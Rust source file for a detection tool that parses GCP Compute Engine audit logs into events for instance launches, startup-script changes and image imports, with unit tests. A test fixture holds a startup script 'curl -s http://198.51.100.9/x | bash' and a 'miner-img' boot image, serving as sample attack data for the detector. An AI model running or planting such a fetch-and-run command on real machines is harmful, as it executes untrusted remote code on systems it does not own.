//! GCP Cloud Audit Logs (Admin Activity): Compute Engine instance creation with its
//! boot image, startup script and labels; start, stop, metadata (startup script)
//! changes; image creation and import.
//!
//! Long-running operations log twice: the `operation.first` entry echoes the whole
//! request, the `operation.last` one only the request's `@type`. Launches and image
//! creations are taken from the entry that carries the request body; start and stop
//! from either entry (samples hold only the last), with one dedupe key per operation.
//! `logName` is URL-encoded (`cloudaudit.googleapis.com%2Factivity`); reads in the
//! `data_access` log are of no interest. GKE's Kubernetes audit entries (`k8s.io`)
//! are handed to the k8s-audit decoder; other services emit nothing.

use crate::util::Pairs;
use crate::util::{nonblank, rfc3339, Text};
use crate::{DecodeError, RecordCtx};
use pullwatch_model::{
    CloudAction, CloudEvent, CloudProvider, Event, EventKind, Format, ImageOrigin, UserDataState,
    VmImage, VmImageKind, VmLaunch,
};
use serde::Deserialize;
use serde_json::value::RawValue;
use std::borrow::Cow;
use std::net::IpAddr;

#[derive(Deserialize)]
struct Entry<'a> {
    #[serde(borrow)]
    timestamp: Option<Text<'a>>,
    #[serde(rename = "logName", borrow)]
    log_name: Option<Text<'a>>,
    #[serde(rename = "protoPayload", borrow)]
    payload: Option<Payload<'a>>,
    #[serde(borrow)]
    resource: Option<Resource<'a>>,
    #[serde(borrow)]
    operation: Option<Operation<'a>>,
}

#[derive(Deserialize)]
struct Payload<'a> {
    #[serde(rename = "serviceName", borrow)]
    service: Option<Text<'a>>,
    #[serde(rename = "methodName", borrow)]
    method: Option<Text<'a>>,
    #[serde(rename = "resourceName", borrow)]
    resource_name: Option<Text<'a>>,
    #[serde(rename = "authenticationInfo", borrow)]
    auth: Option<Auth<'a>>,
    #[serde(borrow)]
    request: Option<&'a RawValue>,
    #[serde(borrow)]
    response: Option<&'a RawValue>,
    status: Option<Status>,
}

#[derive(Deserialize)]
struct Auth<'a> {
    #[serde(rename = "principalEmail", borrow)]
    principal: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct Status {
    code: Option<i64>,
}

#[derive(Deserialize)]
struct Resource<'a> {
    #[serde(borrow)]
    labels: Option<ResourceLabels<'a>>,
}

#[derive(Deserialize)]
struct ResourceLabels<'a> {
    #[serde(borrow)]
    instance_id: Option<Text<'a>>,
    #[serde(borrow)]
    project_id: Option<Text<'a>>,
    #[serde(borrow)]
    zone: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct Operation<'a> {
    #[serde(borrow)]
    id: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct InsertRequest<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
    #[serde(borrow)]
    hostname: Option<Text<'a>>,
    #[serde(borrow, default)]
    disks: Vec<Disk<'a>>,
    #[serde(rename = "sourceMachineImage", borrow)]
    source_machine_image: Option<Text<'a>>,
    #[serde(borrow)]
    metadata: Option<Metadata<'a>>,
    #[serde(default)]
    labels: Pairs,
    #[serde(rename = "networkInterfaces", borrow, default)]
    nics: Vec<Nic<'a>>,
}

#[derive(Deserialize)]
struct Disk<'a> {
    boot: Option<bool>,
    #[serde(rename = "initializeParams", borrow)]
    init: Option<InitParams<'a>>,
}

#[derive(Deserialize)]
struct InitParams<'a> {
    #[serde(rename = "sourceImage", borrow)]
    source_image: Option<Text<'a>>,
}

#[derive(Deserialize, Default)]
struct Metadata<'a> {
    #[serde(borrow, default)]
    items: Vec<MetadataItem<'a>>,
}

#[derive(Deserialize)]
struct MetadataItem<'a> {
    #[serde(borrow)]
    key: Cow<'a, str>,
    #[serde(borrow)]
    value: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct Nic<'a> {
    #[serde(rename = "networkIP", borrow)]
    ip: Option<Text<'a>>,
    #[serde(borrow)]
    network: Option<Text<'a>>,
    #[serde(borrow)]
    subnetwork: Option<Text<'a>>,
}

/// The body of `instances.setMetadata`: a Metadata resource, `items` at the top (or
/// under `metadata` in some renderings).
#[derive(Deserialize)]
struct SetMetadataRequest<'a> {
    #[serde(borrow, default)]
    items: Vec<MetadataItem<'a>>,
    #[serde(borrow)]
    metadata: Option<Metadata<'a>>,
}

#[derive(Deserialize)]
struct ImageInsertRequest<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
    #[serde(rename = "rawDisk", borrow)]
    raw_disk: Option<RawDisk<'a>>,
    #[serde(rename = "sourceImage", borrow)]
    source_image: Option<Text<'a>>,
    #[serde(rename = "sourceDisk", borrow)]
    source_disk: Option<Text<'a>>,
    #[serde(rename = "sourceSnapshot", borrow)]
    source_snapshot: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct RawDisk<'a> {
    #[serde(borrow)]
    source: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct OperationResponse<'a> {
    #[serde(rename = "targetId", borrow)]
    target_id: Option<Text<'a>>,
}

/// Metadata keys whose value GCE's guest agent or cloud-init runs at boot, most
/// specific first: one VM launch carries one user-data text.
const SCRIPT_KEYS: &[&str] = &[
    "startup-script",
    "user-data",
    "windows-startup-script-ps1",
    "windows-startup-script-cmd",
    "windows-startup-script-bat",
    "sysprep-specialize-script-ps1",
    "sysprep-specialize-script-cmd",
];
const SCRIPT_URL_KEYS: &[&str] = &[
    "startup-script-url",
    "windows-startup-script-url",
    "sysprep-specialize-script-url",
];

pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    let e: Entry = serde_json::from_str(text)?;
    let p = e.payload.ok_or(DecodeError::Missing("protoPayload"))?;
    let time = rfc3339(
        e.timestamp
            .as_deref()
            .ok_or(DecodeError::Missing("timestamp"))?,
    )?;
    match p.service.as_deref() {
        Some("compute.googleapis.com") => {}
        // GKE's Kubernetes audit events, in Cloud Logging's form.
        Some("k8s.io") => return Err(DecodeError::OtherFormat(Format::K8sAudit)),
        // Entries of other services are of no interest to the analytics.
        Some(_) => return Ok(()),
        None => return Err(DecodeError::Missing("protoPayload.serviceName")),
    }
    if e.log_name
        .as_deref()
        .is_some_and(|l| percent_decode(l).ends_with("/data_access"))
    {
        return Ok(());
    }
    if p.status
        .as_ref()
        .and_then(|s| s.code)
        .is_some_and(|c| c != 0)
    {
        return Ok(());
    }
    let method = p.method.as_deref().unwrap_or("");
    // `v1.compute.instances.insert`, `beta.…`, `alpha.…`, or no version at all.
    let method = method.split_once(".compute.").map_or(method, |(_, m)| m);
    let method = method.strip_prefix("compute.").unwrap_or(method);
    let resource_name = p.resource_name.as_deref().unwrap_or("");
    let labels = e.resource.as_ref().and_then(|r| r.labels.as_ref());
    let project = labels
        .and_then(|l| nonblank(l.project_id.as_deref()))
        .map(str::to_string)
        .or_else(|| segment_after(resource_name, "projects").map(str::to_string));
    let zone = labels
        .and_then(|l| nonblank(l.zone.as_deref()))
        .map(str::to_string)
        .or_else(|| segment_after(resource_name, "zones").map(str::to_string));
    let op_id = e.operation.as_ref().and_then(|o| nonblank(o.id.as_deref()));
    let base = Base {
        time,
        ctx,
        dedupe: op_id.map(|id| format!("gcp:{id}")),
        project,
        zone,
        actor: p
            .auth
            .as_ref()
            .and_then(|a| nonblank(a.principal.as_deref()))
            .map(str::to_string),
    };
    let instance_id = || -> Option<String> {
        labels
            .and_then(|l| nonblank(l.instance_id.as_deref()))
            .map(str::to_string)
            .or_else(|| {
                parse::<OperationResponse>(p.response)
                    .ok()
                    .flatten()
                    .and_then(|r| nonblank(r.target_id.as_deref()).map(str::to_string))
            })
    };
    match method {
        "instances.insert" => {
            let Some(req) = parse::<InsertRequest>(p.request)? else {
                return Ok(());
            };
            // The operation's last entry echoes only `@type`.
            if req.name.is_none() && req.disks.is_empty() && req.source_machine_image.is_none() {
                return Ok(());
            }
            let id = instance_id().ok_or(DecodeError::Missing("resource.labels.instance_id"))?;
            let launch = launch(id, &req, base.project.as_deref(), resource_name);
            base.push(out, CloudAction::InstanceLaunch(Box::new(launch)));
        }
        "instances.start" | "instances.startWithEncryptionKey" | "instances.resume" => {
            let id = instance_id().ok_or(DecodeError::Missing("resource.labels.instance_id"))?;
            base.push(out, CloudAction::InstanceStart { instance_id: id });
        }
        "instances.stop" | "instances.suspend" => {
            let id = instance_id().ok_or(DecodeError::Missing("resource.labels.instance_id"))?;
            base.push(out, CloudAction::InstanceStop { instance_id: id });
        }
        "instances.setMetadata" => {
            let Some(req) = parse::<SetMetadataRequest>(p.request)? else {
                return Ok(());
            };
            let mut items = req.items;
            if let Some(m) = req.metadata {
                items.extend(m.items);
            }
            let (user_data, url) = scripts(&items);
            if user_data == UserDataState::Absent && url.is_none() {
                return Ok(());
            }
            let id = instance_id().ok_or(DecodeError::Missing("resource.labels.instance_id"))?;
            base.push(
                out,
                CloudAction::UserDataChanged {
                    instance_id: id,
                    user_data,
                    startup_script_url: url,
                },
            );
        }
        "images.insert" => {
            let Some(req) = parse::<ImageInsertRequest>(p.request)? else {
                return Ok(());
            };
            let project = base.project.as_deref();
            let how = if let Some(src) = req
                .raw_disk
                .as_ref()
                .and_then(|r| nonblank(r.source.as_deref()))
            {
                ImageOrigin::Imported {
                    source: Some(src.to_string()),
                }
            } else if let Some(src) = nonblank(req.source_image.as_deref()) {
                ImageOrigin::Copied {
                    source_image: gcp_path(src, project),
                    source_region: None,
                }
            } else if let Some(d) =
                nonblank(req.source_disk.as_deref()).or(nonblank(req.source_snapshot.as_deref()))
            {
                ImageOrigin::Created {
                    from_instance: None,
                    from_disk: Some(gcp_path(d, project)),
                }
            } else if req.name.is_some() {
                ImageOrigin::Registered
            } else {
                // The last entry of the operation: the first one carried the request.
                return Ok(());
            };
            let image_id = if resource_name.contains("/images/") {
                gcp_path(resource_name, project)
            } else {
                let name = nonblank(req.name.as_deref())
                    .ok_or(DecodeError::Missing("protoPayload.resourceName"))?;
                gcp_path(&format!("global/images/{name}"), project)
            };
            base.push(out, CloudAction::ImageCreated { image_id, how });
        }
        _ => {}
    }
    Ok(())
}

struct Base<'c> {
    time: pullwatch_model::Ts,
    ctx: &'c RecordCtx,
    dedupe: Option<String>,
    project: Option<String>,
    zone: Option<String>,
    actor: Option<String>,
}

impl Base<'_> {
    fn push(&self, out: &mut Vec<Event>, action: CloudAction) {
        let mut e = Event::new(
            self.time,
            self.ctx.source(Format::GcpAudit),
            EventKind::Cloud(CloudEvent {
                provider: CloudProvider::Gcp,
                account: self.project.clone(),
                region: self.zone.clone(),
                actor: self.actor.clone(),
                action,
            }),
        );
        e.dedupe = self.dedupe.as_deref().map(Into::into);
        out.push(e);
    }
}

fn launch(
    instance_id: String,
    req: &InsertRequest,
    project: Option<&str>,
    resource_name: &str,
) -> VmLaunch {
    let boot = req
        .disks
        .iter()
        .find(|d| d.boot == Some(true) && d.init.is_some())
        .or_else(|| req.disks.iter().find(|d| d.init.is_some()));
    let image = boot
        .and_then(|d| d.init.as_ref())
        .and_then(|i| nonblank(i.source_image.as_deref()))
        .map(|s| gcp_image(s, project))
        .or_else(|| nonblank(req.source_machine_image.as_deref()).map(|s| gcp_image(s, project)));
    let mut names: Vec<String> = Vec::new();
    let name = nonblank(req.name.as_deref())
        .or_else(|| resource_name.rsplit('/').next().filter(|s| !s.is_empty()));
    for n in [name, nonblank(req.hostname.as_deref())]
        .into_iter()
        .flatten()
    {
        if !names.iter().any(|x| x == n) {
            names.push(n.to_string());
        }
    }
    let mut private_ips: Vec<IpAddr> = Vec::new();
    for ip in req.nics.iter().filter_map(|n| nonblank(n.ip.as_deref())) {
        if let Ok(ip) = ip.parse::<IpAddr>() {
            if !private_ips.contains(&ip) {
                private_ips.push(ip);
            }
        }
    }
    let nic = req.nics.first();
    let (user_data, startup_script_url) = match &req.metadata {
        Some(m) => scripts(&m.items),
        None => (UserDataState::Absent, None),
    };
    VmLaunch {
        instance_id,
        image,
        private_ips,
        names,
        subnet: nic
            .and_then(|n| nonblank(n.subnetwork.as_deref()))
            .map(|s| gcp_path(s, project)),
        vpc: nic
            .and_then(|n| nonblank(n.network.as_deref()))
            .map(|s| gcp_path(s, project)),
        tags: req.labels.0.clone(),
        user_data,
        startup_script_url,
        launch_template: None,
        launched_at: None,
    }
}

/// The boot script among metadata items: a logged key without a value means the
/// content exists but was withheld.
fn scripts(items: &[MetadataItem]) -> (UserDataState, Option<String>) {
    let find = |k: &str| items.iter().find(|i| i.key == k);
    let user_data = SCRIPT_KEYS
        .iter()
        .find_map(|k| find(k))
        .map_or(UserDataState::Absent, |i| match i.value.as_deref() {
            Some(v) => UserDataState::Present(v.to_string()),
            None => UserDataState::Redacted,
        });
    let url = SCRIPT_URL_KEYS
        .iter()
        .find_map(|k| find(k))
        .and_then(|i| nonblank(i.value.as_deref()))
        .map(str::to_string);
    (user_data, url)
}

/// A Compute resource path in one spelling: API URL prefixes removed, and paths
/// relative to the request's project (`global/images/x`) made absolute.
pub fn gcp_path(src: &str, project: Option<&str>) -> String {
    let s = src.trim();
    let s = if s.starts_with("https://") || s.starts_with("http://") {
        s.find("/projects/").map_or(s, |i| &s[i + 1..])
    } else {
        s
    };
    if s.starts_with("projects/") {
        return s.to_string();
    }
    match project {
        Some(p)
            if s.starts_with("global/") || s.starts_with("regions/") || s.starts_with("zones/") =>
        {
            format!("projects/{p}/{s}")
        }
        _ => s.to_string(),
    }
}

fn gcp_image(src: &str, project: Option<&str>) -> VmImage {
    let id = gcp_path(src, project);
    let kind = if id.contains("/images/family/") {
        VmImageKind::GcpImageFamily
    } else if id.contains("/machineImages/") {
        VmImageKind::GcpMachineImage
    } else {
        VmImageKind::GcpImage
    };
    let mut img = VmImage::new(id, kind);
    img.owner = segment_after(&img.id, "projects").map(str::to_string);
    img
}

/// The path segment after `key/` (`projects/<p>/zones/<z>/…`).
fn segment_after<'s>(path: &'s str, key: &str) -> Option<&'s str> {
    let mut it = path.split('/');
    while let Some(seg) = it.next() {
        if seg == key {
            return it.next().filter(|s| !s.is_empty());
        }
    }
    None
}

/// `%2F` and friends in `logName`; invalid escapes are kept as written.
fn percent_decode(s: &str) -> String {
    crate::util::percent_decode(s, false)
}

fn parse<'a, T: Deserialize<'a>>(raw: Option<&'a RawValue>) -> Result<Option<T>, DecodeError> {
    match raw {
        None => Ok(None),
        Some(r) if r.get() == "null" => Ok(None),
        Some(r) => serde_json::from_str(r.get())
            .map(Some)
            .map_err(|e| DecodeError::Invalid(format!("protoPayload request/response: {e}"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DecodeStats;
    use pullwatch_model::Ts;
    use std::sync::Arc;

    fn stream(data: &str) -> (Vec<Event>, DecodeStats) {
        crate::test_support::stream_bytes("mem", data.as_bytes().to_vec())
    }

    fn decode(s: &str) -> Vec<Event> {
        let ctx = RecordCtx {
            path: Arc::from("t"),
            line: 1,
        };
        let mut out = Vec::new();
        decode_json(s, &ctx, &mut out).unwrap();
        out
    }

    fn cloud(e: &Event) -> &CloudEvent {
        match &e.kind {
            EventKind::Cloud(c) => c,
            other => panic!("not a cloud event: {other:?}"),
        }
    }

    /// An `instances.insert` operation as GCP logs it (API body in the first entry,
    /// only `@type` in the last), written from the documented LogEntry shape.
    const INSERT_FIRST: &str = r##"{"insertId":"a1","logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity","operation":{"id":"operation-1700000000000-abc","producer":"compute.googleapis.com","first":true},"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"dev@example.com"},"requestMetadata":{"callerIp":"198.51.100.20"},"serviceName":"compute.googleapis.com","methodName":"beta.compute.instances.insert","resourceName":"projects/p1/zones/us-central1-a/instances/web-1","request":{"@type":"type.googleapis.com/compute.instances.insert","name":"web-1","machineType":"zones/us-central1-a/machineTypes/e2-medium","disks":[{"autoDelete":true,"boot":true,"initializeParams":{"sourceImage":"https://www.googleapis.com/compute/v1/projects/evil-proj/global/images/miner-img"}}],"metadata":{"items":[{"key":"ssh-keys","value":"dev:ssh-ed25519 AAAA"},{"key":"startup-script","value":"#!/bin/bash\ncurl -s http://198.51.100.9/x | bash\n"}]},"labels":{"env":"prod","team":"web"},"networkInterfaces":[{"network":"global/networks/default","subnetwork":"regions/us-central1/subnetworks/default","networkIP":"10.128.0.7"}]},"response":{"@type":"type.googleapis.com/operation","id":"998","name":"operation-1700000000000-abc","operationType":"insert","status":"RUNNING","targetId":"1234567890123456789","targetLink":"https://www.googleapis.com/compute/v1/projects/p1/zones/us-central1-a/instances/web-1"}},"receiveTimestamp":"2024-01-01T00:00:01.1Z","resource":{"type":"gce_instance","labels":{"instance_id":"1234567890123456789","project_id":"p1","zone":"us-central1-a"}},"severity":"NOTICE","timestamp":"2024-01-01T00:00:00.123456789Z"}"##;
    const INSERT_LAST: &str = r#"{"insertId":"a2","logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity","operation":{"id":"operation-1700000000000-abc","producer":"compute.googleapis.com","last":true},"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{"principalEmail":"dev@example.com"},"serviceName":"compute.googleapis.com","methodName":"beta.compute.instances.insert","resourceName":"projects/p1/zones/us-central1-a/instances/web-1","request":{"@type":"type.googleapis.com/compute.instances.insert"}},"resource":{"type":"gce_instance","labels":{"instance_id":"1234567890123456789","project_id":"p1","zone":"us-central1-a"}},"severity":"NOTICE","timestamp":"2024-01-01T00:00:20.5Z"}"#;

    #[test]
    fn insert_operation_first_entry_is_the_launch() {
        let (ev, st) = stream(&format!("{INSERT_FIRST}\n{INSERT_LAST}\n"));
        assert_eq!(st.formats[&Format::GcpAudit].records, 2);
        assert_eq!(ev.len(), 1);
        let e = &ev[0];
        assert_eq!(
            e.time,
            Ts::parse_rfc3339("2024-01-01T00:00:00.123456789Z").unwrap()
        );
        assert_eq!(e.dedupe.as_deref(), Some("gcp:operation-1700000000000-abc"));
        let c = cloud(e);
        assert_eq!(c.provider, CloudProvider::Gcp);
        assert_eq!(c.account.as_deref(), Some("p1"));
        assert_eq!(c.region.as_deref(), Some("us-central1-a"));
        assert_eq!(c.actor.as_deref(), Some("dev@example.com"));
        let CloudAction::InstanceLaunch(l) = &c.action else {
            panic!()
        };
        assert_eq!(l.instance_id, "1234567890123456789");
        let mut img = VmImage::new(
            "projects/evil-proj/global/images/miner-img",
            VmImageKind::GcpImage,
        );
        img.owner = Some("evil-proj".into());
        assert_eq!(l.image, Some(img));
        assert_eq!(l.names, ["web-1"]);
        assert_eq!(l.private_ips, ["10.128.0.7".parse::<IpAddr>().unwrap()]);
        assert_eq!(
            l.vpc.as_deref(),
            Some("projects/p1/global/networks/default")
        );
        assert_eq!(
            l.subnet.as_deref(),
            Some("projects/p1/regions/us-central1/subnetworks/default")
        );
        assert_eq!(
            l.tags,
            [("env".into(), "prod".into()), ("team".into(), "web".into())]
        );
        assert_eq!(
            l.user_data,
            UserDataState::Present("#!/bin/bash\ncurl -s http://198.51.100.9/x | bash\n".into())
        );
        assert_eq!(l.startup_script_url, None);
    }

    #[test]
    fn source_image_spellings_and_metadata_variants() {
        let with = |disk_image: &str, items: &str| {
            INSERT_FIRST
                .replace(
                    "https://www.googleapis.com/compute/v1/projects/evil-proj/global/images/miner-img",
                    disk_image,
                )
                .replace(
                    r##"[{"key":"ssh-keys","value":"dev:ssh-ed25519 AAAA"},{"key":"startup-script","value":"#!/bin/bash\ncurl -s http://198.51.100.9/x | bash\n"}]"##,
                    items,
                )
        };
        let launch_of = |rec: String| -> VmLaunch {
            let ev = decode(&rec);
            match &cloud(&ev[0]).action {
                CloudAction::InstanceLaunch(l) => (**l).clone(),
                other => panic!("{other:?}"),
            }
        };
        let l = launch_of(with(
            "projects/debian-cloud/global/images/family/debian-12",
            r#"[{"key":"startup-script-url","value":"gs://b/boot.sh"}]"#,
        ));
        let img = l.image.unwrap();
        assert_eq!(
            (img.id.as_str(), img.kind, img.owner.as_deref()),
            (
                "projects/debian-cloud/global/images/family/debian-12",
                VmImageKind::GcpImageFamily,
                Some("debian-cloud")
            )
        );
        assert_eq!(l.user_data, UserDataState::Absent);
        assert_eq!(l.startup_script_url.as_deref(), Some("gs://b/boot.sh"));
        // Relative to the request's project; a key logged without its value.
        let l = launch_of(with("global/images/golden-v3", r#"[{"key":"user-data"}]"#));
        let img = l.image.unwrap();
        assert_eq!(
            (img.id.as_str(), img.owner.as_deref()),
            ("projects/p1/global/images/golden-v3", Some("p1"))
        );
        assert_eq!(l.user_data, UserDataState::Redacted);
        let l = launch_of(with(
            "https://compute.googleapis.com/compute/beta/projects/p2/global/images/x",
            "[]",
        ));
        assert_eq!(l.image.unwrap().id, "projects/p2/global/images/x");
        // A machine image instead of a disk image; the instance id from the response.
        let rec = INSERT_FIRST
            .replace(
                r#""disks":[{"autoDelete":true,"boot":true,"initializeParams":{"sourceImage":"https://www.googleapis.com/compute/v1/projects/evil-proj/global/images/miner-img"}}]"#,
                r#""sourceMachineImage":"projects/p3/global/machineImages/mi-1""#,
            )
            .replace(r#""labels":{"instance_id":"1234567890123456789","#, r#""labels":{"#);
        let l = launch_of(rec);
        assert_eq!(l.instance_id, "1234567890123456789");
        assert_eq!(l.image.unwrap().kind, VmImageKind::GcpMachineImage);
    }

    #[test]
    fn start_stop_set_metadata_and_no_interest() {
        let op = |method: &str, request: &str| {
            format!(
                r#"{{"logName":"projects/p1/logs/cloudaudit.googleapis.com%2Factivity","operation":{{"id":"op-{method}","first":true}},"protoPayload":{{"serviceName":"compute.googleapis.com","methodName":"v1.compute.{method}","resourceName":"projects/p1/zones/z1/instances/vm","request":{request}}},"resource":{{"labels":{{"instance_id":"42","project_id":"p1","zone":"z1"}}}},"timestamp":"2024-01-01T00:00:00Z"}}"#
            )
        };
        // A method name without an API version.
        let bare = op("instances.stop", "{}")
            .replace("v1.compute.instances.stop", "compute.instances.stop");
        assert_eq!(
            cloud(&decode(&bare)[0]).action,
            CloudAction::InstanceStop {
                instance_id: "42".into()
            }
        );
        let ev = decode(&op("instances.start", r#"{"@type":"x"}"#));
        assert_eq!(
            cloud(&ev[0]).action,
            CloudAction::InstanceStart {
                instance_id: "42".into()
            }
        );
        let ev = decode(&op(
            "instances.setMetadata",
            r#"{"@type":"x","fingerprint":"f","items":[{"key":"startup-script","value":"wget x"}]}"#,
        ));
        assert_eq!(
            cloud(&ev[0]).action,
            CloudAction::UserDataChanged {
                instance_id: "42".into(),
                user_data: UserDataState::Present("wget x".into()),
                startup_script_url: None
            }
        );
        // Only ssh keys changed: not a boot script.
        assert!(decode(&op(
            "instances.setMetadata",
            r#"{"items":[{"key":"ssh-keys","value":"k"}]}"#
        ))
        .is_empty());
        // Failed calls, reads and other services.
        let failed = op("instances.start", "{}").replace(
            r#""request":{}"#,
            r#""request":{},"status":{"code":7,"message":"PERMISSION_DENIED"}"#,
        );
        assert!(decode(&failed).is_empty());
        let read = op("instances.start", "{}").replace("%2Factivity", "%2Fdata_access");
        assert!(decode(&read).is_empty());
        assert_eq!(percent_decode("a%2Fb%zz%"), "a/b%zz%");
        let ctx = RecordCtx {
            path: Arc::from("t"),
            line: 1,
        };
        let mut out = Vec::new();
        // GKE's Kubernetes audit entries are handed on, never taken as nothing.
        let gke = op("instances.start", "{}").replace("compute.googleapis.com", "k8s.io");
        assert_eq!(
            decode_json(&gke, &ctx, &mut out),
            Err(DecodeError::OtherFormat(Format::K8sAudit))
        );
        let unnamed =
            op("instances.start", "{}").replace(r#""serviceName":"compute.googleapis.com","#, "");
        assert_ne!(unnamed, op("instances.start", "{}"));
        assert_eq!(
            decode_json(&unnamed, &ctx, &mut out),
            Err(DecodeError::Missing("protoPayload.serviceName"))
        );
        assert!(out.is_empty());
        assert_eq!(
            decode_json(r#"{"eventSource":"x","eventName":"y"}"#, &ctx, &mut out),
            Err(DecodeError::Missing("protoPayload"))
        );
    }

    #[test]
    fn shared_samples() {
        let Some(dir) = crate::test_support::samples("gcp-audit") else {
            return;
        };
        let (ev, st) = crate::test_support::stream_file(&dir.join("audit-log-entries.json.log"));
        assert_eq!(st.skipped_total(), 0, "{st:?}");
        // Line 5 is GKE's Kubernetes audit entry (a SubjectAccessReview): read as
        // k8s-audit, of no interest there.
        assert_eq!(st.formats[&Format::GcpAudit].records, 6);
        assert_eq!(st.formats[&Format::K8sAudit].records, 1);
        assert_eq!(st.formats[&Format::K8sAudit].events, 0);
        assert_eq!(ev.len(), 2);
        // The raw-disk image import (line 6) and the stop's last entry (line 7).
        assert_eq!(ev[0].source.line, 6);
        assert_eq!(
            ev[0].time,
            Ts::parse_rfc3339("2020-08-05T21:59:26.456Z").unwrap()
        );
        assert_eq!(
            cloud(&ev[0]).action,
            CloudAction::ImageCreated {
                image_id: "projects/foo/global/images/windows-server-2016-v20200805".into(),
                how: ImageOrigin::Imported {
                    source: Some(
                        "https://storage.googleapis.com/storage/v1/b/foo/o/windows-server-2016-v20200805.tar.gz".into()
                    )
                }
            }
        );
        assert_eq!(cloud(&ev[0]).actor.as_deref(), Some("user@mycompany.com"));
        assert_eq!(
            ev[0].dedupe.as_deref(),
            Some("gcp:operation-1596664766354-5ac287c395484-fa3923bd-543e018e")
        );
        assert_eq!(
            cloud(&ev[1]).action,
            CloudAction::InstanceStop {
                instance_id: "590261181".into()
            }
        );
        assert_eq!(cloud(&ev[1]).region.as_deref(), Some("us-central1-a"));
        assert_eq!(cloud(&ev[1]).account.as_deref(), Some("foo"));
    }
}
